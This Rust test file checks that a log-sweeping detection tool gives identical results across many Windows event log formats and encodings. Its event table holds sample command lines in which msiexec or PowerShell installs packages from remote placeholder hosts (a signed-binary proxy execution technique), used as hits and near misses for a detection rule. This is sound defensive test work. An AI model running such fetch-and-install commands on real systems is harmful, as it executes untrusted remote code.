//! The same events written in every format give the same rows.
//!
//! One table of events, hits and near misses, is written in every [`Style`], as EVTX, in other
//! encodings and compressed; a sweep of each file must give the same bytes of JSONL. What a format
//! truly cannot carry is listed at [`Limit`], nowhere else.

mod common;

use std::collections::{BTreeMap, BTreeSet};
use std::io::{Cursor, Write as _};
use std::path::{Path, PathBuf};

use coldsweep::cim::Cim;
use coldsweep::corpus::evtx_writer::{EventSpec, EvtxWriter};
use coldsweep::corpus::{
    Account, Arrangement, Details, Escapes, Exporter, GzipMembers, Happening, Inner, Kind,
    LineEnds, Payload, Separator, Style, Utf16, Writer, XmlLayout,
};
use coldsweep::plan::Plan;
use coldsweep::reading::Reading;
use coldsweep::report::{OutputFormat, write_rows};
use coldsweep::rule::Rule;
use coldsweep::scan::{Options, Progress, scan};
use jiff::Timestamp;
use proptest::prelude::*;
use serde_json::{Map, Value as Json};

/// Whether the built-in rule matches an event of the table.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Is {
    Hit,
    NearMiss,
}

/// One line of the table: kind, milliseconds after the first event, host, command line or
/// package, and whether it is a hit.
type Line<'a> = (Kind, i64, &'static str, &'a str, Is);

/// The only host that logs version 1 of 4688.
const HOST_OF_VERSION_1: &str = "ie10win7";

const FIRST: i64 = 1_613_991_598_250;

use Is::{Hit, NearMiss};
use Kind::{Logon, MsiBegin, MsiEnd, Process, ProcessV1, Sysmon};

const TABLE: &[Line<'static>] = &[
    (Logon, 0, "ws-01.corp.example", "", NearMiss),
    (
        Process,
        120,
        "ws-01.corp.example",
        r#"msiexec.exe /q /i "https://cdn.example/t/T1218.msi""#,
        Hit,
    ),
    // The same second and host, another process.
    (
        Process,
        480,
        "ws-01.corp.example",
        r#""C:\Windows\System32\cmd.exe" /c msiexec /i http://10.0.0.5:8080/a.msi /qn"#,
        Hit,
    ),
    // The same second, another host.
    (Process, 500, "srv-02", "MSIEXEC.EXE /I HTTPS://CDN.EXAMPLE/A.MSI", Hit),
    // The last millisecond of a second and the first of the next.
    (ProcessV1, 749, HOST_OF_VERSION_1, "msiexec /i ftp://files.example/x.msi", Hit),
    (ProcessV1, 750, HOST_OF_VERSION_1, "msiexec /i ftp://files.example/y.msi", Hit),
    (
        Process,
        60_000,
        "srv-02",
        "powershell.exe -c \"Invoke-CimMethod -ClassName Win32_Product -MethodName Install \
         -Arguments @{ PackageLocation = 'https://cdn.example/p.msi' }\"",
        Hit,
    ),
    (Process, 61_000, "srv-02", r#"msiexec /i"https://x.example/a.msi?x=1&y=<2>&z='3'" /qb"#, Hit),
    (Process, 62_000, "srv-02", "msiexec /i https://m\u{fc}nchen.example/gr\u{f6}\u{df}e.msi", Hit),
    (Process, 63_000, "srv-02", "msiexec /i https://x.example/\u{1f4e6}.msi \u{4f60}\u{597d}", Hit),
    (Process, 64_000, "srv-02", "cmd /c echo a\nmsiexec /i https://x.example/second-line.msi", Hit),
    (Process, 65_000, "srv-02", "cmd /c ^\r\nmsiexec /i https://x.example/crlf.msi\r\nexit", Hit),
    (Process, 66_000, "srv-02", "msiexec  /i  https://x.example/blanks.msi  ", Hit),
    (Process, 67_000, "srv-02", r"msiexec /i https://x.example/a.msi TARGETDIR=C:\new\table\", Hit),
    (Process, 68_000, "srv-02", r#"msiexec /i https://x.example/{"k":"v\u0041"}.msi"#, Hit),
    (Process, 69_000, "srv-02", "msiexec /i https://x.example/</Event><Event>.msi", Hit),
    (Process, 70_000, "srv-02", "msiexec /i https://x.example/Message=.msi Type=Process", Hit),
    (MsiBegin, 120_000, "ws-01.corp.example", "https://cdn.example/t/T1218.msi", Hit),
    (MsiEnd, 121_000, "ws-01.corp.example", "https://cdn.example/t/T1218.msi", Hit),
    (MsiBegin, 121_300, HOST_OF_VERSION_1, "http://x.example/a&b=<c>.msi", Hit),
    (Process, 180_000, "ws-01.corp.example", r"msiexec /i C:\install\local.msi", NearMiss),
    (Process, 181_000, "ws-01.corp.example", r"msiexec /i \\share\install\remote.msi", NearMiss),
    (Process, 182_000, "ws-01.corp.example", "msiexec /ihttps://x.example/a.msi", NearMiss),
    (Process, 183_000, "ws-01.corp.example", "msiexec /i https://x.example/a.msix", NearMiss),
    (Process, 184_000, "ws-01.corp.example", "msiexec /i https://x.example/a.exe", NearMiss),
    (Process, 185_000, "ws-01.corp.example", "msiexec /i file://x.example/a.msi", NearMiss),
    (Process, 186_000, "ws-01.corp.example", "msiexec -i https://x.example/a.msi", NearMiss),
    (Process, 187_000, "ws-01.corp.example", "cmd /i echo https://x.example/ a.msi", NearMiss),
    (Process, 188_000, "ws-01.corp.example", "", NearMiss),
    (MsiBegin, 189_000, "ws-01.corp.example", r"C:\install\local.msi", NearMiss),
    (MsiEnd, 190_000, "ws-01.corp.example", "https://x.example/setup.exe", NearMiss),
    (Sysmon, 191_000, "ws-01.corp.example", "msiexec /i https://x.example/a.msi", NearMiss),
    (Logon, 192_000, "ws-01.corp.example", "", NearMiss),
];

const IMAGE: &str = r"C:\Windows\System32\msiexec.exe";

/// Hands the events of some lines of a table to `visit`.
fn each_event(
    table: &[Line<'_>],
    wanted: impl Fn(&Line<'_>) -> bool,
    visit: &mut dyn FnMut(&EventSpec<'_>),
) {
    let account = |name, domain, sid: &str| Account { name, domain, sid: sid.parse().unwrap() };
    let alice = account("alice", "CORP", "S-1-5-21-3463664321-2923530833-3546627382-1001");
    let machine = account("SRV-02$", "CORP", "S-1-5-18");
    let mut details = Details::default();
    for (at, line) in table.iter().enumerate().filter(|(_, line)| wanted(line)) {
        let (kind, milliseconds, computer, command_line, _) = *line;
        let happening = Happening {
            kind,
            time: Timestamp::from_millisecond(FIRST + milliseconds).unwrap(),
            record_id: 1000 + at as u64,
            computer,
            account: if at % 3 == 0 { &machine } else { &alice },
            target: (at % 4 == 0).then_some(&alice),
            command_line,
            image: if at % 2 == 0 { IMAGE } else { r"C:\Program Files\Tools & Co\run.exe" },
            parent_image: r"C:\Windows\explorer.exe",
            parent_command_line: "explorer",
            process_id: 4000 + u32::try_from(at).unwrap(),
            parent_process_id: 0x208,
        };
        happening.event(&mut details, |event| visit(event));
    }
}

fn text(style: Style, escapes: Escapes) -> Vec<u8> {
    text_of(TABLE, style, escapes)
}

fn text_of(table: &[Line<'_>], style: Style, escapes: Escapes) -> Vec<u8> {
    let mut writer = Writer::with_escapes(style, escapes, Vec::new());
    let wanted = |line: &Line<'_>| style != Style::HostMon || on_host_monitor(line);
    each_event(table, wanted, &mut |event| writer.write(event).unwrap());
    writer.finish().unwrap()
}

fn evtx() -> Vec<u8> {
    let mut writer = EvtxWriter::new(Cursor::new(Vec::new())).unwrap();
    each_event(TABLE, |_| true, &mut |event| writer.write(event).unwrap());
    writer.finish().unwrap().into_inner()
}

fn utf16(text: &[u8], big_endian: bool, mark: bool) -> Vec<u8> {
    let mut writer = Utf16::new(Vec::new(), big_endian, mark).unwrap();
    writer.write_all(text).unwrap();
    writer.finish().unwrap()
}

fn gzip(bytes: &[u8], member: usize) -> Vec<u8> {
    let mut writer = GzipMembers::new(Vec::new(), member);
    writer.write_all(bytes).unwrap();
    writer.finish().unwrap()
}

/// What a format cannot carry.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Limit {
    /// Nothing that a row shows is lost: rows must be the same to the byte.
    Nothing,
    /// Classic text. CRLF is one line end in it, so of a CRLF inside a value only the line feed
    /// is known (SPLUNK.md, decisions). And a 4688 of version 1 names one account, of which the
    /// add-on makes `user` alone, for it takes `src_user` from two (SPLUNK.md 5). And the header
    /// of a Sysmon event has a `User` of its own, so that the field has two values.
    Classic,
    /// WinHostMon lists processes: no installer, no logons, no user, no parent; the add-on cuts
    /// no command line and puts no image before it; numbers of processes are decimal
    /// (SPLUNK.md 5). A value ends at the line end, and blanks around it are cut.
    Processes,
}

impl Limit {
    fn of(style: Style) -> Self {
        match style {
            Style::HostMon => Self::Processes,
            Style::Classic(_)
            | Style::Export(Inner::Classic)
            | Style::Results(Inner::Classic)
            | Style::Collector(Payload::Text(Inner::Classic), _) => Self::Classic,
            Style::Xml(_)
            | Style::Json(..)
            | Style::Export(Inner::Xml)
            | Style::Results(Inner::Xml)
            | Style::Collector(Payload::Text(Inner::Xml) | Payload::Object, _) => Self::Nothing,
        }
    }

    /// The rows without what the format cannot carry.
    fn apply(self, rows: &str) -> String {
        if self == Self::Nothing {
            return rows.to_owned();
        }
        let mut rows = objects(rows);
        for row in &mut rows {
            if self == Self::Classic {
                if row["host"] == HOST_OF_VERSION_1 {
                    row.remove("src_user");
                }
                if row.get("signature_id").is_some_and(|id| id == "1") {
                    row.remove("user");
                }
            } else {
                row.retain(|column, _| ["_time", "host", "process"].contains(&column.as_str()));
            }
            for values in row.values_mut().filter_map(Json::as_array_mut) {
                for value in values.iter_mut() {
                    let text = value.as_str().expect("a list of texts").replace("\r\n", "\n");
                    let bare = if self == Self::Processes { arguments(&text) } else { &text };
                    *value = bare.into();
                }
                values.sort_by(|a, b| a.as_str().cmp(&b.as_str()));
            }
        }
        rows.iter().map(|row| serde_json::to_string(row).unwrap() + "\n").collect()
    }
}

/// A command line without its image, and without blanks around it.
fn arguments(process: &str) -> &str {
    let image = match process.strip_prefix('"').and_then(|rest| rest.find('"')) {
        Some(end) => end + 2,
        None => process.find(' ').unwrap_or(process.len()),
    };
    process[image..].trim()
}

/// A file to sweep: its name, its bytes, what it cannot carry.
struct File {
    name: String,
    bytes: Vec<u8>,
    limit: Limit,
}

/// The table in every format and variant.
fn files() -> Vec<File> {
    let mut files = vec![
        File { name: "log.evtx".to_owned(), bytes: evtx(), limit: Limit::Nothing },
        File { name: "log.evtx.gz".to_owned(), bytes: gzip(&evtx(), 5000), limit: Limit::Nothing },
    ];
    for style in Style::all() {
        for escapes in escapes_of(style) {
            let bytes = text(style, *escapes);
            let name = format!("{}-{escapes:?}.{}", style.name(), style.extension());
            files.push(File { name, bytes, limit: Limit::of(style) });
        }
    }
    // Encodings and compression do not know formats, so some of each kind will do.
    for style in [
        Style::Xml(XmlLayout::Lines),
        Style::Xml(XmlLayout::Document),
        Style::Classic(LineEnds::Crlf),
        Style::HostMon,
        Style::Json(Exporter::NxLog, Arrangement::Lines),
        Style::Json(Exporter::EvtxDump, Arrangement::PrettyArray),
        Style::Results(Inner::Classic),
        Style::Collector(Payload::Object, Separator::Nothing),
    ] {
        let text = text(style, Escapes::Least);
        let name = format!("{}.{}", style.name(), style.extension());
        let mut add = |name: String, bytes: Vec<u8>| {
            files.push(File { name, bytes, limit: Limit::of(style) });
        };
        // A UTF-8 mark would become a second one.
        let unmarked = text.strip_prefix(b"\xef\xbb\xbf").unwrap_or(&text);
        for (big, mark) in [(false, false), (true, false), (false, true), (true, true)] {
            let bytes = utf16(unmarked, big, mark);
            add(format!("utf-16-{big}-{mark}-{name}.gz"), gzip(&bytes, 5000));
            add(format!("utf-16-{big}-{mark}-{name}"), bytes);
        }
        add(format!("{name}.gz"), gzip(&text, 5000));
        add(format!("marked-{name}"), [b"\xef\xbb\xbf", unmarked].concat());
    }
    files
}

/// The ways of escaping that mean the same in a style.
fn escapes_of(style: Style) -> &'static [Escapes] {
    match style {
        // Search terms match the raw text, where `&#x2f;i` is no `/i` (SPLUNK.md 1.4), so not
        // every character may be written by its number.
        Style::Xml(_) => &[Escapes::Least, Escapes::More, Escapes::Ascii],
        Style::Classic(_) | Style::HostMon => &[Escapes::Least],
        Style::Json(..) | Style::Export(_) | Style::Results(_) | Style::Collector(..) => {
            &Escapes::ALL
        }
    }
}

fn rows(plan: fn() -> Plan, paths: &[PathBuf]) -> String {
    let plans = [plan()];
    let options = Options { threads: 2, ..Options::default() };
    let outcome =
        scan(&plans, &Cim::builtin(), paths, &options, &Progress::default()).expect("it starts");
    assert_eq!(outcome.skipped, [], "in {paths:?}");
    let mut out = Vec::new();
    write_rows(OutputFormat::Jsonl, &plans, &outcome, &mut out).unwrap();
    String::from_utf8(out).unwrap()
}

fn seed() -> Plan {
    common::seed_plan(Reading::AS_MEANT)
}

/// Everything that the formats know of every event, without search terms.
fn everything() -> Plan {
    let search = "* | table _time, host, signature_id, dest, user, src_user, process, process_*, \
                  parent_* | bin span=1s | stats count, values(*) as * by _time, host, signature_id";
    let yaml = format!("title: everything\nid: '1.1'\nlogic_format: Splunk\nlogic: '{search}'\n");
    let rule = Rule::parse(&yaml, "everything.yml").expect("a rule");
    common::compile(rule, Reading::AS_MEANT)
}

fn write(folder: &Path, file: &File) -> PathBuf {
    let path = folder.join(&file.name);
    std::fs::write(&path, &file.bytes).unwrap();
    path
}

fn objects(rows: &str) -> Vec<Map<String, Json>> {
    rows.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
}

/// What the table says of the built-in rule: the seconds and hosts of its hits.
fn expected_groups(only: impl Fn(&Line<'_>) -> bool) -> BTreeSet<(String, String)> {
    let hits = TABLE.iter().filter(|line| line.4 == Hit && only(line));
    hits.map(|(_, milliseconds, host, ..)| {
        let second = (FIRST + milliseconds).div_euclid(1000);
        (Timestamp::from_second(second).unwrap().to_string(), (*host).to_owned())
    })
    .collect()
}

fn groups(rows: &str) -> BTreeSet<(String, String)> {
    let text = |row: &Map<String, Json>, key: &str| row[key].as_str().unwrap().to_owned();
    objects(rows).iter().map(|row| (text(row, "_time"), text(row, "host"))).collect()
}

/// Events that WinHostMon carries: those that start a process, the command line on one line.
fn on_host_monitor(line: &Line<'_>) -> bool {
    matches!(line.0, Process | ProcessV1) && !line.3.contains('\n')
}

/// The first row that differs, and which of its columns.
fn first_difference(found: &str, expected: &str) -> String {
    let (found, expected) = (objects(found), objects(expected));
    let Some((found, expected)) = found.iter().zip(&expected).find(|(f, e)| f != e) else {
        return format!("{} rows for {}", found.len(), expected.len());
    };
    let columns: BTreeSet<_> = found.keys().chain(expected.keys()).collect();
    let mut text = format!("in {} {}", expected["_time"], expected["host"]);
    for column in columns {
        let (found, expected) = (found.get(column), expected.get(column));
        if found != expected {
            text += &format!("\n  {column}: found {found:?}\n  expected {expected:?}");
        }
    }
    text
}

#[test]
fn the_reference_gives_what_the_table_says() {
    let folder = tempfile::tempdir().unwrap();
    let bytes = text(Style::Xml(XmlLayout::Lines), Escapes::Least);
    let path = folder.path().join("events.xml");
    std::fs::write(&path, bytes).unwrap();
    let found = rows(seed, std::slice::from_ref(&path));
    assert_eq!(groups(&found), expected_groups(|_| true));
    // Of each process, the arguments; the image before them is the add-on's business.
    let mut processes: BTreeMap<String, usize> = BTreeMap::new();
    for row in objects(&found) {
        for process in row.get("process").and_then(Json::as_array).into_iter().flatten() {
            *processes.entry(process.as_str().unwrap().to_owned()).or_default() += 1;
        }
    }
    let hits = TABLE.iter().filter(|line| line.4 == Hit && matches!(line.0, Process | ProcessV1));
    let hits: Vec<_> = hits.map(|line| line.3).collect();
    assert_eq!(processes.len(), hits.len());
    for command_line in hits {
        let url = command_line.split("://").nth(1).unwrap();
        let with = processes.keys().filter(|process| process.ends_with(url));
        assert_eq!(with.count(), 1, "{command_line} in {processes:?}");
    }
}

/// Writes the events of the table that a limit leaves, as the XML that all is compared with.
fn reference(folder: &Path, limit: Limit) -> PathBuf {
    let mut writer = Writer::new(Style::Xml(XmlLayout::Lines), Vec::new());
    let wanted = |line: &Line<'_>| limit != Limit::Processes || on_host_monitor(line);
    each_event(TABLE, wanted, &mut |event| writer.write(event).unwrap());
    let name = format!("reference-{limit:?}.xml");
    write(folder, &File { name, bytes: writer.finish().unwrap(), limit })
}

#[test]
fn every_format_gives_the_same_rows() {
    let folder = tempfile::tempdir().unwrap();
    let expected = [Limit::Nothing, Limit::Classic, Limit::Processes]
        .map(|limit| (limit, limit.apply(&rows(seed, &[reference(folder.path(), limit)]))));
    every_format_gives_the_same(seed, &files(), &expected);
}

#[test]
fn every_format_knows_the_same_of_every_event() {
    let folder = tempfile::tempdir().unwrap();
    let expected = [Limit::Nothing, Limit::Classic]
        .map(|limit| (limit, limit.apply(&rows(everything, &[reference(folder.path(), limit)]))));
    let mut files = files();
    // A host monitor tells nothing but processes, of which the other test compares all.
    files.retain(|file| file.limit != Limit::Processes);
    every_format_gives_the_same(everything, &files, &expected);
}

fn every_format_gives_the_same(plan: fn() -> Plan, files: &[File], expected: &[(Limit, String)]) {
    let folder = tempfile::tempdir().unwrap();
    let mut wrong: Vec<(&str, String)> = Vec::new();
    for file in files {
        let (_, expected) = expected.iter().find(|(limit, _)| *limit == file.limit).unwrap();
        assert!(expected.lines().count() > 10, "{expected}");
        let found = file.limit.apply(&rows(plan, &[write(folder.path(), file)]));
        if found != *expected {
            wrong.push((&file.name, first_difference(&found, expected)));
        }
    }
    let mut text = format!("{} files", wrong.len());
    for (at, (name, difference)) in wrong.iter().enumerate() {
        let again = wrong[..at].iter().any(|(_, known)| known == difference);
        text +=
            &if again { format!("\n{name}: so too") } else { format!("\n{name}: {difference}") };
    }
    assert!(wrong.is_empty(), "{text}");
}

#[test]
fn all_formats_in_one_folder_give_the_same_rows() {
    let folder = tempfile::tempdir().unwrap();
    let expected = rows(seed, &[reference(folder.path(), Limit::Nothing)]);
    for limit in [Limit::Nothing, Limit::Classic, Limit::Processes] {
        let folder = folder.path().join(format!("{limit:?}"));
        std::fs::create_dir(&folder).unwrap();
        for file in files().iter().filter(|file| file.limit == limit) {
            write(&folder, file);
        }
    }
    let lossless = rows(seed, &[folder.path().join("Nothing")]);
    assert_eq!(lossless, expected, "{}", first_difference(&lossless, &expected));
    // With the others the values are more, but the groups are the same, and no value is lost.
    let all = rows(seed, &[folder.path().to_owned()]);
    assert_eq!(groups(&all), expected_groups(|_| true));
    for (row, expected) in objects(&all).iter().zip(objects(&expected)) {
        for (column, expected) in expected {
            let Json::Array(expected) = expected else {
                assert_eq!(row[&column], expected);
                continue;
            };
            let found = row[&column].as_array().unwrap();
            assert!(expected.iter().all(|value| found.contains(value)), "{column} of {row:?}");
        }
    }
}

/// Text that every format carries whole: no control characters, no blanks at its ends.
fn any_text() -> impl Strategy<Value = String> {
    const PIECES: [&str; 24] = [
        "https://x.example/a.msi",
        " /i ",
        "\"",
        "'",
        "&",
        "<",
        ">",
        "&amp;",
        "\\",
        "\\\"",
        "\\u0041",
        "</Data>",
        "</Event>",
        "{\"EventID\":1}",
        "]}",
        "Message=",
        "Process Command Line:\t",
        ": ",
        "=",
        "%1",
        "%{CommandLine}",
        "\u{e9}\u{4f60}",
        "\u{1f4e6}",
        "\u{feff}",
    ];
    let piece = prop_oneof![
        3 => prop::sample::select(&PIECES[..]).prop_map(str::to_owned),
        1 => "[ -~]{1,6}",
        1 => any::<char>().prop_map(String::from),
    ];
    prop::collection::vec(piece, 0..6).prop_map(|pieces| {
        let plain = |c: &char| !c.is_control() && !matches!(c, '\u{fffe}' | '\u{ffff}');
        pieces.concat().chars().filter(plain).collect::<String>().trim().to_owned()
    })
}

/// The styles that differ in how they write a value.
const WAYS: &[Style] = &[
    Style::Xml(XmlLayout::Pretty),
    Style::Xml(XmlLayout::Document),
    Style::Xml(XmlLayout::Rendered),
    Style::Classic(LineEnds::Mixed),
    Style::Json(Exporter::EvtxDump, Arrangement::Lines),
    Style::Json(Exporter::Winlogbeat, Arrangement::Pretty),
    Style::Json(Exporter::NxLog, Arrangement::Array),
    Style::Json(Exporter::SecurityDatasets, Arrangement::Lines),
    Style::Export(Inner::Classic),
    Style::Collector(Payload::Text(Inner::Xml), Separator::Nothing),
    Style::Collector(Payload::Object, Separator::Newline),
];

proptest! {
    #![proptest_config(ProptestConfig {
        cases: 24,
        failure_persistence: None,
        ..ProptestConfig::default()
    })]

    /// What the table says, for whatever text.
    #[test]
    fn any_text_comes_out_of_every_format(
        texts in prop::collection::vec((prop::sample::select(&Kind::ALL[..]), any_text()), 1..6),
    ) {
        let table: Vec<Line> = texts
            .iter()
            .enumerate()
            .map(|(at, (kind, text))| {
                let host = if *kind == ProcessV1 { HOST_OF_VERSION_1 } else { "srv-02" };
                (*kind, 1000 * at as i64, host, text.as_str(), NearMiss)
            })
            .collect();
        let folder = tempfile::tempdir().unwrap();
        let sweep = |name: &str, bytes: Vec<u8>| {
            let file = File { name: name.to_owned(), bytes, limit: Limit::Nothing };
            rows(everything, &[write(folder.path(), &file)])
        };
        let expected = sweep("reference", text_of(&table, Style::Xml(XmlLayout::Lines), Escapes::Least));
        let mut log = EvtxWriter::new(Cursor::new(Vec::new())).unwrap();
        each_event(&table, |_| true, &mut |event| log.write(event).unwrap());
        let found = sweep("evtx", log.finish().unwrap().into_inner());
        prop_assert!(found == expected, "evtx: {}", first_difference(&found, &expected));
        for style in WAYS {
            let limit = Limit::of(*style);
            let expected = limit.apply(&expected);
            for escapes in escapes_of(*style) {
                let found = limit.apply(&sweep("other", text_of(&table, *style, *escapes)));
                let difference = || first_difference(&found, &expected);
                prop_assert!(found == expected, "{style:?} {escapes:?}: {}", difference());
            }
        }
    }
}
